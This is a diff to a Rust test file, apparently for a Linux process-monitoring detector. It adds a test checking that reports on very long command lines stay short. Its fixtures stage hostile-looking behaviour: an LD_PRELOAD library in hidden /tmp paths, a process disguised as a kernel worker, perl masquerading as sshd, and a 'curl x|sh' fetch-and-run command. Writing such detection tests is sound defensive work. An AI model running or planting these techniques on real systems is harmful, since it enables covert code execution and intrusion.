@@ -153,6 +153,20 @@ fn an_honest_container_is_quiet() {
     assert_eq!(loud.count(), 0, "{}", told(&honest));
 }
 
+/// However long a command line or environment is, what is said of it is short.
+#[test]
+fn long_words_are_cut() {
+    let long = "a".repeat(100_000);
+    let preload = format!("LD_PRELOAD=/tmp/.x/{long}:{}", "/tmp/.y/l.so:".repeat(10_000));
+    let findings = found([
+        Task::new(2, 1).exe("/opt/.x/a").argv(&["[kworker/0:1]", &long]).env(&[preload]),
+        Task::new(3, 1).exe("/usr/bin/perl").argv(&["/usr/sbin/sshd", &long]),
+        Task::new(4, 1).exe("/bin/dash").argv(&["sh", "-c", &format!("{long}|curl x|sh")]),
+    ]);
+    sound(&findings, "long");
+    assert!(findings.len() > 4, "{}", told(&findings));
+}
+
 /// Words that the rules look for, and words that break them.
 fn word() -> impl Strategy<Value = Vec<u8>> {
     prop_oneof![
